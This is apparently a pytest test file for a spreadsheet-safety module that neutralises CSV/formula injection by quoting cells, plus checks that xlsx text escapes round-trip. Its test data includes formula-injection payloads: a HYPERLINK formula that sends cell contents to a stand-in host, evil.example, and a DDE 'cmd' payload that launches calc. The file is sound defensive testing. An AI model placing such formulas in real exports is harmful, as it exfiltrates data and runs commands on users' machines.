import csv
import io
from datetime import date, datetime, time
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pif.lib.spreadsheet_safety import (
    FORMULA_TRIGGERS,
    SpreadsheetSafetyError,
    from_xlsx_text,
    safe_cell,
    safe_row,
    to_xlsx_text,
    unescape_cell,
)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "'-5"),
    ],
)
def test_it_quotes_text_that_a_spreadsheet_would_run_as_a_formula(text, expected):
    assert safe_cell(text) == expected


@pytest.mark.parametrize(
    "text",
    ["Leeds City Council", "", "1+1", "A=B", " =1+1", "£5", "50%", "2019/20"],
)
def test_it_leaves_harmless_text_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [
        -5,
        5,
        0,
        -5.5,
        3.2,
        Decimal("-1.25"),
        True,
        date(2019, 7, 7),
        datetime(2019, 7, 7, 9),
        time(9),
    ],
)
def test_numbers_dates_and_times_pass_through_unchanged_even_when_negative(value):
    result = safe_cell(value)
    assert result is value


def test_the_number_minus_five_is_not_quoted():
    assert safe_cell(-5) == -5


def test_none_becomes_an_empty_cell():
    assert safe_cell(None) == ""


def test_other_objects_are_written_as_their_text_and_quoted_if_needed():
    class Formulaic:
        def __str__(self) -> str:
            return "=cmd|' /C calc'!A0"

    assert safe_cell(Formulaic()) == "'=cmd|' /C calc'!A0"


def test_it_refuses_bytes_rather_than_writing_their_repr():
    with pytest.raises(SpreadsheetSafetyError, match="decode it before exporting"):
        safe_cell(b"=1+1")


def test_safe_row_makes_every_cell_safe():
    assert safe_row(["=1+1", -5, None, "Leeds"]) == ["'=1+1", -5, "", "Leeds"]


def test_a_safe_row_written_as_csv_has_no_cell_starting_a_formula():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row(['=HYPERLINK("x")', "@SUM(A1)", -5, "ok"]))
    cells = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert cells == ['\'=HYPERLINK("x")', "'@SUM(A1)", "-5", "ok"]


@given(st.text())
def test_no_safe_text_starts_with_a_formula_trigger(text):
    assert not safe_cell(text).startswith(FORMULA_TRIGGERS)


@given(st.text())
def test_safe_text_is_the_original_with_at_most_a_leading_quote(text):
    result = safe_cell(text)
    assert result in (text, "'" + text)


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.decimals(allow_nan=False)))
def test_numbers_always_pass_through(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(("text", "written"), [
    ("'=already quoted", "''=already quoted"),
    ("'Tis", "''Tis"),
    ("''", "'''"),
    ("'", "''"),
])
def test_text_that_begins_with_a_quote_gets_another_so_the_quoting_can_be_undone(text,
                                                                                  written):
    """Once, "'=x" was written as it was, and read back as "=x"."""
    assert safe_cell(text) == written
    assert unescape_cell(written) == text


@pytest.mark.parametrize("text", ["'=1+1", "=1+1", "'Tis", "''", "-5", "\t=x", "\r\n", "plain",
                                  " spaced ", "", "'", "''=''"])
def test_unescaping_undoes_safe_cell_exactly(text):
    assert unescape_cell(safe_cell(text)) == text


@given(st.text())
def test_unescaping_undoes_safe_cell_for_any_text(text):
    assert unescape_cell(safe_cell(text)) == text


def test_a_quote_that_safe_cell_did_not_add_is_kept():
    assert unescape_cell("'Tis") == "'Tis"


@pytest.mark.parametrize(("text", "stored"), [
    ("a\r\nb", "a_x000D_\nb"),
    ("_x000D_", "_x005F_x000D_"),
    ("_x005F_", "_x005F_x005F_"),
    ("_x12_ and _xZZZZ_", "_x12_ and _xZZZZ_"),
    ("plain", "plain"),
])
def test_excel_text_escapes_carriage_returns_and_literal_escapes_and_reads_them_back(text,
                                                                                     stored):
    assert to_xlsx_text(text) == stored
    assert from_xlsx_text(stored) == text


@given(st.text())
def test_excel_text_reads_back_exactly_for_any_text(text):
    assert from_xlsx_text(to_xlsx_text(text)) == text


def test_an_escaped_nul_character_is_left_as_written_as_it_cannot_be_stored():
    assert from_xlsx_text("a_x0000_b_x0001_") == "a_x0000_b\x01"
